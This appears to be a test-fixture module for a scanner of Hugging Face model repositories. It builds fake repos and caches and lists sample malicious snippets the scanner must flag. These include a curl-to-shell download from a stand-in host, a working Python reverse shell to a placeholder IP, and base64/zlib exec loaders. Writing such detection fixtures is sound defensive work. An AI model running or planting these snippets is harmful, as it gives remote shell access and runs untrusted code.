"""Hugging Face samples: a fake model repository and a fake local HF cache.

Python payloads are harmless text (``true``, ``print``); nothing here is imported.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Mapping
from pathlib import Path

from tests.samples.chat_templates import CHATML

__all__ = [
    "BENIGN_MODELING",
    "MALICIOUS_CODE",
    "write_hf_cache",
    "write_hf_repo",
]

BENIGN_MODELING = '''"""A custom architecture, as trust_remote_code repositories ship them."""
import math
import os

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=4, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = math.sqrt(config.hidden_size)
        self.cache_dir = os.path.join(os.path.dirname(__file__), "cache")

    def forward(self, x):
        return torch.relu(self.linear(x)) / self.scale
'''

#: name -> (source, the rule id that must fire)
MALICIOUS_CODE: dict[str, tuple[str, str]] = {
    "base64-exec": (
        'import base64\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))\n',
        "MS-PY-PAYLOAD",
    ),
    "zlib-eval-alias": (
        "import zlib as z, base64 as b\n"
        "def load():\n"
        "    eval(compile(z.decompress(b.b64decode('eJwrKMrMK9FQ')), 'x', 'exec'))\n",
        "MS-PY-PAYLOAD",
    ),
    "curl-pipe-sh": (
        "import subprocess\n"
        "subprocess.run('curl -s http://example.invalid/x.sh | sh', shell=True)\n",
        "MS-PY-PAYLOAD",
    ),
    "reverse-shell": (
        "import os, pty, socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "s.connect(('192.0.2.1', 4444))\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
        "pty.spawn('/bin/sh')\n",
        "MS-PY-PAYLOAD",
    ),
    "os-system-at-import": ('import os\nos.system("true")\n', "MS-PY-DANGEROUS-CALL"),
    "from-import-alias": ("from os import system as run\nrun('true')\n", "MS-PY-DANGEROUS-CALL"),
    "dunder-import": ("__import__('os').system('true')\n", "MS-PY-DANGEROUS-CALL"),
    "subprocess-alias": (
        "import subprocess as sp\n\ndef setup():\n    sp.Popen(['true'])\n",
        "MS-PY-DANGEROUS-CALL",
    ),
    "getattr-computed": (
        "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
        "MS-PY-DANGEROUS-CALL",
    ),
    "requests-download": (
        "import requests\nrequests.get('http://example.invalid/weights')\n",
        "MS-PY-DANGEROUS-CALL",
    ),
    "pickle-loads": ("import pickle\npickle.loads(b'')\n", "MS-PY-DANGEROUS-CALL"),
}


def write_hf_repo(
    root: Path,
    *,
    auto_map: bool = True,
    modeling: str = BENIGN_MODELING,
    chat_template: str = CHATML,
    extra_files: Mapping[str, str] | None = None,
) -> Path:
    """A model repository: config, tokenizer config with a template, weights, custom code."""
    import numpy as np
    from safetensors.numpy import save_file

    root.mkdir(parents=True, exist_ok=True)
    config: dict[str, object] = {"model_type": "tiny", "hidden_size": 4}
    if auto_map:
        config["architectures"] = ["TinyModel"]
        config["auto_map"] = {
            "AutoConfig": "modeling_tiny.TinyConfig",
            "AutoModel": "modeling_tiny.TinyModel",
        }
        (root / "modeling_tiny.py").write_text(modeling)
    (root / "config.json").write_text(json.dumps(config, indent=2))
    (root / "tokenizer_config.json").write_text(
        json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": chat_template})
    )
    save_file({"linear.weight": np.eye(4, dtype=np.float32)}, str(root / "model.safetensors"))
    for name, text in (extra_files or {}).items():
        (root / name).write_text(text)
    return root


def write_hf_cache(
    cache: Path,
    repo_id: str,
    files: Mapping[str, bytes],
    *,
    revision: str = "0123456789abcdef0123456789abcdef01234567",
) -> Path:
    """A hub cache entry laid out like huggingface_hub's: blobs, snapshot symlinks, refs."""
    repo = cache / ("models--" + repo_id.replace("/", "--"))
    snapshot = repo / "snapshots" / revision
    (repo / "blobs").mkdir(parents=True, exist_ok=True)
    (repo / "refs").mkdir(exist_ok=True)
    (repo / "refs" / "main").write_text(revision)
    for name, data in files.items():
        digest = hashlib.sha256(data).hexdigest()
        (repo / "blobs" / digest).write_bytes(data)
        link = snapshot / name
        link.parent.mkdir(parents=True, exist_ok=True)
        depth = len(Path(name).parts) + 1
        link.symlink_to("../" * depth + "blobs/" + digest)
    return snapshot
